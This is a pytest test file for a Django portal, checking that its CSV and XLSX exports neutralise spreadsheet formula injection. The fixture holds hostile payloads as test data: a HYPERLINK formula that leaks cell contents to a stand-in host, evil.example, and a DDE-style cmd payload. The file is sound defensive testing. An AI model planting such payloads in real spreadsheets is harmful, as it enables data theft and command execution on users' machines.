"""Exports neutralise formula injection: a text cell starting with =, +, -, @, a tab or a carriage
return is written as text, in CSV and XLSX alike (allocation_portal.spreadsheets)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from allocation_portal.spreadsheets import csv_bytes, xlsx_bytes

pytestmark = pytest.mark.django_db

EVIL_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


@pytest.fixture
def evil_project(world):
    world.project_a.title_ko = EVIL_TITLE
    world.project_a.save(update_fields=["title_ko"])
    world.ministry_b.name_ko = "@SUM(1+1)*cmd|' /C calc'!A0"
    world.ministry_b.save(update_fields=["name_ko"])
    return world


def test_a_formula_title_is_text_in_the_csv_export(evil_project, client_for, clock):
    response = client_for(evil_project.admin).get("/monitoring/board/export.csv?month=2026-08")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8").lstrip("\ufeff"))))
    by_code = {r[1]: r for r in rows[1:]}
    assert by_code["PA-001"][2] == "'" + EVIL_TITLE
    assert by_code["PB-001"][3].startswith("'@")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_formula_title_is_a_text_cell_in_the_xlsx_export(evil_project, client_for, clock):
    response = client_for(evil_project.auditor).get("/monitoring/board/export.xlsx?month=2026-08")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    title = cells["PA-001"][2]
    assert title.value == EVIL_TITLE and title.data_type == "s" and title.quotePrefix
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(value):
    rows = list(csv.reader(io.StringIO(csv_bytes(["h"], [[value]]).decode("utf-8").lstrip("\ufeff"))))
    assert rows[1][0] == "'" + value
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["h"], [[value]], sheet_title="t"))).active
    # XML reads a carriage return back as a line feed.
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == value.replace("\r", "\n")


def test_numbers_and_plain_text_are_left_alone():
    rows = list(csv.reader(io.StringIO(csv_bytes(["h", "n"], [["가나다", -5.0]]).decode("utf-8").lstrip("\ufeff"))))
    assert rows[1] == ["가나다", "-5.0"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["h", "n"], [["가나다", -5.0]], sheet_title="t"))).active
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n" and not sheet["A2"].quotePrefix
